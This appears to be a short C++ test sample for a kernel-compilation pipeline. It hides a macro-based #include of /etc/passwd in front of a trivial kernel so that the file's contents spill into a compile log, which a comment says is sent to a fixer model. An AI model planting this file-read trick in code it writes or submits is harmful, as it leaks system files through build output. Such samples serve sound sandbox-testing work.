// Would copy /etc/passwd into the compile log, which is stored and sent to the fixer's model.
#include <cmath>
#define SECRET "/etc/passwd"
#include SECRET

extern "C" void kernel(const float* x, float* out) { out[0] = x[0]; }
